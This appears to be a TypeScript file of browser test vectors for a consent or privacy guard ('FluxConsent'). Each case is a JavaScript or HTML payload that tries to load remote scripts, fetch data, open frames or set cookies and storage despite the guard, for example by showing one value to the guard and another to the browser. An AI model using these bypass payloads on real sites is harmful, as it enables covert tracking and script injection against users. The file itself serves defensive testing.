import { group, js } from '../vector.ts';

// Found by a sixth attack in November 2026: texts that change on their way, windows that nobody asked for, values read twice.

const S = `var s=document.createElement('script');`;
const IMP = `"import('"+'{{o}}'+"/m.mjs').catch(()=>{})"`;
const D = `<div id="d">x</div>`;
const BG = `'#d{background:url({{o}}/p.gif)}'`;
const F = `var f=document.createElement('iframe');document.body.append(f);`;
const go = `<button id="go">go</button>`;

export const sixth = group(
  'sixth',
  [
    [
      'xhr-send-while-opening',
      'R',
      js(
        `var x=new XMLHttpRequest();x.onreadystatechange=()=>{x.onreadystatechange=null;x.send()};x.open('GET','{{o}}/data')`,
      ),
    ],
    [
      'link-not-prevented',
      'R',
      `<iframe name="q"></iframe><a id="go" href="{{o}}/f.html" target="q">x</a>${js('Event.prototype.preventDefault=()=>{}')}`,
      { click: true },
    ],
    [
      'blob-other-address',
      'XR',
      `<i id="d" data-at="{{o}}/m.mjs"></i>${js(`var u=URL.createObjectURL(new Blob(['import(d.dataset.at).catch(()=>{})'],{type:'text/javascript'}));URL.createObjectURL=()=>'{{o}}/x.js';${S}s.src=u;document.head.append(s)`)}`,
    ],
    [
      'function-default-argument',
      'XR',
      `<i id="d" data-at="{{o}}/m.mjs"></i>${js(`new Function('a=import(d.dataset.at).catch(()=>{})','return a')()`)}`,
    ],
    [
      'xhr-reopen-fails',
      'R',
      js(
        `var x=new XMLHttpRequest();x.open('GET','{{o}}/data');try{x.open('BAD METHOD','/own')}catch{}x.send()`,
      ),
    ],
    [
      'worker-xhr-reopen',
      'R',
      js(
        `new Worker(URL.createObjectURL(new Blob(["var x=new XMLHttpRequest();x.open('GET',{{parts}}.join('')+'/data');try{x.open('BAD METHOD','https://app.test/')}catch(e){}x.send()"],{type:'text/javascript'})))`,
      ),
    ],
    [
      'adjacent-text-where-twice',
      'XR',
      js(
        `var n=0;${S}document.body.append(s);s.insertAdjacentText({toString:()=>self.FluxConsent&&!n++?'x':'beforeend'},${IMP})`,
      ),
      { twinless: 'says one thing to the guard and another to the browser', broken: true },
    ],
    [
      'adjacent-text-beside',
      'XR',
      js(
        `${S}var b=document.createElement('b');s.append(b);document.body.append(s);b.insertAdjacentText('beforebegin',${IMP})`,
      ),
    ],
    [
      'adjacent-text-beside-style',
      'R',
      `${D}<style id="z"></style>${js(`var b=document.createElement('b');z.append(b);setTimeout(()=>b.insertAdjacentText('afterend',${BG}),80)`)}`,
    ],
    [
      'adjacent-html-style',
      'R',
      `${D}<style id="z"></style>${js(`setTimeout(()=>z.insertAdjacentHTML('beforeend',${BG}),80)`)}`,
    ],
    [
      'outer-html-in-style',
      'R',
      `${D}<style id="z"></style>${js(`setTimeout(()=>{var b=document.createElement('b');z.append(b);b.outerHTML=${BG}},80)`)}`,
    ],
    [
      'outer-text-in-script',
      'XR',
      js(
        `setTimeout(()=>{${S}document.body.append(s);var b=document.createElement('b');s.append(b);b.outerText=${IMP}},50)`,
      ),
    ],
    [
      'outer-text-in-style',
      'R',
      `${D}<style id="z"></style>${js(`setTimeout(()=>{var b=document.createElement('b');z.append(b);b.outerText=${BG}},50)`)}`,
    ],
    [
      'script-text-split',
      'XR',
      js(
        `setTimeout(()=>{${S}s.type='x';s.append(' '+${IMP});document.body.append(s);s.type='';s.firstChild.splitText(1)},300)`,
      ),
    ],
    [
      'script-src-type-split',
      'XR',
      js(
        `setTimeout(()=>{${S}s.type='x';s.src='{{o}}/x.js';s.append('a');document.body.append(s);s.type='';s.firstChild.splitText(1)},300)`,
      ),
    ],
    [
      'script-toggle-type-split',
      'XR',
      js(
        `${S}s.type='x';s.text=${IMP};document.body.append(s);s.toggleAttribute('type',false);s.firstChild.splitText(1)`,
      ),
    ],
    [
      'surround-text-script',
      'XR',
      `<p id="d">x</p>${js(`d.textContent=${IMP};${S}var r=document.createRange();r.selectNodeContents(d);r.surroundContents(s)`)}`,
    ],
    [
      'surround-script-in-div',
      'XR',
      js(
        `var e=document.createElement('div');var p=document.createElement('p');document.body.append(p);p.textContent=${IMP};${S}e.append(s);var r=document.createRange();r.selectNodeContents(p);r.surroundContents(s)`,
      ),
    ],
    [
      'surround-text-style',
      'R',
      `<div id="d">x</div><p id="q"></p>${js(`setTimeout(()=>{q.textContent=${BG};var s=document.createElement('style');var r=document.createRange();r.selectNodeContents(q);r.surroundContents(s)},80)`)}`,
    ],
    [
      'exec-insert-text-style',
      'R',
      `${D}<style id="z" contenteditable style="display:block">p{}</style>${js(`setTimeout(()=>{z.focus();getSelection().selectAllChildren(z);document.execCommand('insertText',false,${BG})},80)`)}`,
    ],
    [
      'exec-undo-script',
      'XR',
      `<div id="e" contenteditable>a<b id="w"></b>c</div>${js(`setTimeout(()=>{${S}w.append('q',s);e.focus();getSelection().selectAllChildren(e);document.execCommand('delete');s.src='{{o}}/x.js';document.execCommand('undo')},200)`)}`,
    ],
    [
      'exec-undo-script-text',
      'XR',
      `<div id="e" contenteditable>a<b id="w"></b>c</div>${js(`setTimeout(()=>{${S}w.append('q',s);e.focus();getSelection().selectAllChildren(e);document.execCommand('delete');s.text=${IMP};document.execCommand('undo')},200)`)}`,
    ],
    [
      'style-delete-data',
      'R',
      `${D}<style id="z"></style>${js(`setTimeout(()=>{z.textContent='#d{background:url(Z{{o}}/p.gif)}';var t=z.firstChild;setTimeout(()=>t.deleteData(18,1),30)},50)`)}`,
    ],
    [
      'style-text-removed',
      'R',
      `${D}<style id="z"></style>${js(`setTimeout(()=>{z.append('#d{background:url(');z.append('Z');z.append('{{o}}/p.gif)}');z.childNodes[1].remove()},50)`)}`,
    ],
    [
      'style-range-delete',
      'R',
      `${D}<style id="z"></style>${js(`setTimeout(()=>{z.textContent='#d{background:url(Z{{o}}/p.gif)}';var r=document.createRange();r.setStart(z.firstChild,18);r.setEnd(z.firstChild,19);r.deleteContents()},50)`)}`,
    ],
    ['css-namespace-var', 'R', `${D}<style>#d{background:var(--\\@namespace,url({{o}}/p.gif))}</style>`],
    [
      'css-namespace-property',
      'R',
      `${D}${js(`d.style.background='url("data:,@namespace"),url({{o}}/p.gif)'`)}`,
    ],
    [
      'css-content-name',
      'R',
      `${D}${js(`var z=document.createElement('style');z.textContent=String.raw\`#d{--a\\;content:"{{o}}/p.gif";background-image:image-set(var(--a\\;content) 1x)}\`;document.head.append(z)`)}`,
    ],
    [
      'css-value-own-string',
      'R',
      `${D}${js(`setTimeout(()=>{var v=CSSStyleValue.parse('background-image','url({{o}}/p.gif)');v.toString=()=>'none';d.attributeStyleMap.set('background-image',v)},300)`)}`,
    ],
    [
      'css-value-object',
      'R',
      `${D}${js(`setTimeout(()=>{var n=0,o=Object.create(CSSStyleValue.prototype);o.toString=()=>self.FluxConsent&&!n++?'none':'url({{o}}/p.gif)';d.attributeStyleMap.set('background-image',o)},300)`)}`,
      { twinless: 'says one thing to the guard and another to the browser' },
    ],
    [
      'animate-getter',
      'R',
      `${D}${js(`setTimeout(()=>{let n=0;d.animate({get backgroundImage(){return n++<(self.FluxConsent?1:0)?'none':'url({{o}}/p.gif)'}},{duration:50,fill:'both'})},300)`)}`,
      { twinless: 'says one thing to the guard and another to the browser' },
    ],
    [
      'keyframe-effect-getter',
      'R',
      `${D}${js(`setTimeout(()=>{let n=0;new Animation(new KeyframeEffect(d,{get backgroundImage(){return n++<(self.FluxConsent?1:0)?'none':['url({{o}}/p.gif)','url({{o}}/p.gif)']}},{duration:9000,fill:'both'})).play()},300)`)}`,
      { twinless: 'says one thing to the guard and another to the browser' },
    ],
    [
      'storage-getter-this',
      'S',
      js(
        `Object.defineProperty(Storage.prototype,'me',{get(){return this},configurable:true});localStorage.me['{{n}}']='1'`,
      ),
    ],
    [
      'storage-symbol-this',
      'S',
      js(
        `var y=Symbol();Object.defineProperty(Storage.prototype,y,{get(){return this},configurable:true});localStorage[y]['{{n}}']='1'`,
      ),
    ],
    ['cookie-max-agex', 'S', js(`document.cookie='{{n}}=1;max-agex=0'`)],
    ['cookie-expires-x', 'S', js(`document.cookie='{{n}}=1;expires-x=Thu, 01 Jan 1970 00:00:00 GMT'`)],
    [
      'cookie-long-expires',
      'S',
      js(`document.cookie='{{n}}=1;expires=Thu, 01 Jan 1970 00:00:00 '+'\\u20ac'.repeat(400)`),
    ],
    [
      'cookie-store-getter',
      'S',
      js(
        `for(let k=0;k<2;k++){let n=0;cookieStore.set({get name(){return n++<k?'cdn_x':'{{n}}'},value:'1',path:location.pathname}).catch(()=>{})}`,
      ),
    ],
    ['document-open-frame', 'R', `<iframe name="fr"></iframe>${js(`document.open('{{o}}/f.html','fr','')`)}`],
    [
      'open-click-frame',
      'R',
      `<iframe name="fr"></iframe>${go}${js(`document.getElementById('go').onclick=()=>window.open('{{o}}/f.html','fr')`)}`,
      { click: true },
    ],
    [
      'open-object-frame',
      'R',
      `<iframe name="fr"></iframe>${js(`var n=0;window.open({toString:()=>self.FluxConsent&&!n++?'/own':'{{o}}/f.html'},'fr')`)}`,
      { twinless: 'says one thing to the guard and another to the browser' },
    ],
    [
      'link-in-frame',
      'R',
      js(
        `${F}f.contentDocument.body.innerHTML='<a href="{{o}}/f.html">x</a>';f.contentDocument.querySelector('a').click()`,
      ),
    ],
    [
      'link-in-srcdoc',
      'R',
      `<iframe srcdoc="<a href='{{o}}/f.html'>x</a><script>document.querySelector('a').click()</script>"></iframe>`,
    ],
    [
      'link-parent',
      'R',
      js(
        `${F}f.contentDocument.body.innerHTML='<iframe></iframe>';var g=f.contentWindow[0];g.document.body.innerHTML='<a target="_parent" href="{{o}}/f.html">x</a>';g.document.querySelector('a').click()`,
      ),
    ],
    [
      'link-frame-window-name',
      'R',
      js(
        `${F}f.contentWindow.name='qq';var a=document.createElement('a');a.href='{{o}}/f.html';a.target='qq';document.body.append(a);a.click()`,
      ),
    ],
    [
      'link-nested-frame-name',
      'R',
      js(
        `${F}f.contentDocument.body.innerHTML='<iframe name="inner"></iframe>';var a=document.createElement('a');a.href='{{o}}/f.html';a.target='inner';document.body.append(a);a.click()`,
      ),
    ],
    [
      'link-detached-dispatch',
      'R',
      js(
        `var a=document.createElement('a');a.href='{{o}}/data';a.download='x';a.dispatchEvent(new MouseEvent('click'))`,
      ),
    ],
    [
      'link-detached-dispatch-frame',
      'R',
      `<iframe name="fr"></iframe>${js(`var a=document.createElement('a');a.href='{{o}}/f.html';a.target='fr';a.dispatchEvent(new MouseEvent('click'))`)}`,
    ],
    [
      'link-detached-parent-click',
      'R',
      `<iframe name="fr"></iframe>${js(`var a=document.createElement('a'),b=document.createElement('b');a.append(b);a.href='{{o}}/f.html';a.target='fr';b.click()`)}`,
    ],
    [
      'link-changed-by-handler',
      'R',
      `<iframe name="fr"></iframe>${js(`var a=document.createElement('a');a.href='/own';a.target='fr';a.onclick=()=>{a.href='{{o}}/f.html'};document.body.append(a);a.click()`)}`,
    ],
    [
      'embed-code',
      'R',
      js(
        `var e=document.createElement('embed');e.type='text/html';e.setAttribute('code','{{o}}/f.html');document.body.append(e)`,
      ),
    ],
    [
      'embed-code-html',
      'R',
      `<p>x</p>${js(`document.body.insertAdjacentHTML('beforeend','<embed type="text/html" code="{{o}}/f.html">')`)}`,
    ],
    [
      'tt-default-html',
      'R',
      `${D}${js(`trustedTypes.createPolicy('default',{createHTML:t=>'<img src="{{o}}/p.gif">'});d.innerHTML='hello'`)}`,
      { head: `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">` },
    ],
    [
      'tt-default-script-text',
      'XR',
      `${js(`trustedTypes.createPolicy('default',{createScript:t=>${IMP}});${S}document.head.append(s);s.text='0'`)}`,
      { head: `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">` },
    ],
    [
      'tt-default-script-append',
      'XR',
      js(
        `trustedTypes.createPolicy('default',{createScript:t=>${IMP}});${S}s.append('0');document.head.append(s)`,
      ),
      { head: `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">` },
    ],
    [
      'tt-default-url-data',
      'XR',
      js(
        `trustedTypes.createPolicy('default',{createScriptURL:t=>'data:text/javascript,'+encodeURIComponent(${IMP})});${S}document.head.append(s);s.src='x'`,
      ),
      { head: `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">` },
    ],
    [
      'tt-default-html-then-script',
      'XR',
      js(
        `trustedTypes.createPolicy('default',{createHTML:t=>${IMP},createScript:t=>t});${S}document.head.append(s);s.innerHTML='0'`,
      ),
      { head: `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">` },
    ],
    [
      'tt-default-write',
      'XR',
      `${js(`trustedTypes.createPolicy('default',{createHTML:t=>'<scr'+'ipt src="{{o}}/x.js"></scr'+'ipt>'});document.write('hello')`)}`,
      { head: `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">` },
    ],
    [
      'tt-default-srcdoc',
      'R',
      js(
        `trustedTypes.createPolicy('default',{createHTML:t=>'<img src="{{o}}/p.gif">'});${F}f.srcdoc='hello'`,
      ),
      { head: `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">` },
    ],
    [
      'deep-script',
      'XR',
      js(
        `var c=0;function r(){try{r()}catch{}if(c++<1500){try{var s=document.createElement('script');s.src='{{o}}/x.js?'+c;document.head.append(s)}catch(e){}}}r()`,
      ),
    ],
    [
      'deep-fetch',
      'R',
      js(
        `var c=0;function r(){try{r()}catch{}if(c++<1500){try{fetch('{{o}}/data'+c).catch(()=>{})}catch(e){}}}r();for(var i=0;i<1500;i++)fetch('{{o}}/data'+i).catch(()=>{})`,
      ),
    ],
    [
      'frame-poll-srcdoc',
      'R',
      js(
        `${F}var old=window[0].Node,n=0;var t=setInterval(()=>{var w=window[0];try{if(w.Node!==old){clearInterval(t);w.fetch('{{o}}/data').catch(()=>{})}}catch{}},1);f.srcdoc='<p>x'`,
      ),
    ],
    [
      'frame-poll-own',
      'R',
      js(
        `${F}var old=window[0].Node,ch=new MessageChannel(),n=0;ch.port1.onmessage=()=>{var w=window[0];try{if(w.Node!==old){w.fetch('{{o}}/data').catch(()=>{});return}}catch{}if(n++<200000)ch.port2.postMessage(0)};ch.port2.postMessage(0);f.src='own.html'`,
      ),
      { files: { 'own.html': '<p>own' } },
    ],
    [
      'frame-poll-keep',
      'XR',
      js(
        `${F}var old=window[0].Node,ch=new MessageChannel(),n=0;ch.port1.onmessage=()=>{var w=window[0];try{if(w.Node!==old){var A=w.Node.prototype.appendChild,set=Object.getOwnPropertyDescriptor(w.HTMLScriptElement.prototype,'src').set;setTimeout(()=>{${S}set.call(s,'{{o}}/x.js');A.call(document.head,s)},500);return}}catch{}if(n++<200000)ch.port2.postMessage(0)};ch.port2.postMessage(0);f.srcdoc='<p>x'`,
      ),
    ],
    [
      'frame-poll-storage',
      'S',
      js(
        `${F}var old=window[0].Node,ch=new MessageChannel(),n=0;ch.port1.onmessage=()=>{var w=window[0];try{if(w.Node!==old){w.localStorage['{{n}}']='1';return}}catch{}if(n++<200000)ch.port2.postMessage(0)};ch.port2.postMessage(0);f.srcdoc='<p>x'`,
      ),
    ],
    [
      'background-fetch',
      'R',
      js(
        `navigator.serviceWorker.register('own.js').then(async r=>{for(let i=0;i<40&&!r.active;i++)await new Promise(k=>setTimeout(k,50));await r.backgroundFetch.fetch('a'+Math.random(),['{{o}}/data'])}).catch(()=>{})`,
      ),
      { files: { 'own.js': '0' } },
    ],
    [
      'rtc-candidate',
      'R',
      js(
        `(async()=>{var p=new RTCPeerConnection(),q=new RTCPeerConnection();p.createDataChannel('d');await p.setLocalDescription(await p.createOffer());await q.setRemoteDescription(p.localDescription);var a=await q.createAnswer();await p.setRemoteDescription({type:'answer',sdp:a.sdp.replace(/a=candidate.*\\r\\n/g,'')});var port='{{udp}}'.split(':').pop();await p.addIceCandidate({candidate:'candidate:1 1 udp 2113937151 127.0.0.1 '+port+' typ host',sdpMid:'0',sdpMLineIndex:0})})().catch(()=>{})`,
      ),
    ],
    [
      'select-index-template',
      'XR',
      `<select id="q"><option>a</option></select><template id="t"><option><script src="{{o}}/x.js"></script></option></template>${js(`q[0]=document.importNode(t.content,true).firstChild`)}`,
    ],
    [
      'select-index-template-own',
      'XR',
      `<select id="q"><option>a</option></select><template id="t"><option><script src="{{o}}/x.js"></script></option></template>${js(`q[0]=t.content.firstChild`)}`,
    ],
    [
      'select-index',
      'XR',
      `<select id="q"><option>a</option></select>${js(`var o=document.createElement('option');${S}s.src='{{o}}/x.js';o.append(s);q[0]=o`)}`,
    ],
    [
      'worker-import-twice',
      'XR',
      js(
        `new Worker(URL.createObjectURL(new Blob(["for(let k of [0,1,2]){let n=0;try{importScripts({toString:()=>n++<k?'data:text/javascript,0':'{{o}}/x.js'})}catch(e){}}"],{type:'text/javascript'})))`,
      ),
    ],
  ],
  { most: 999 },
);
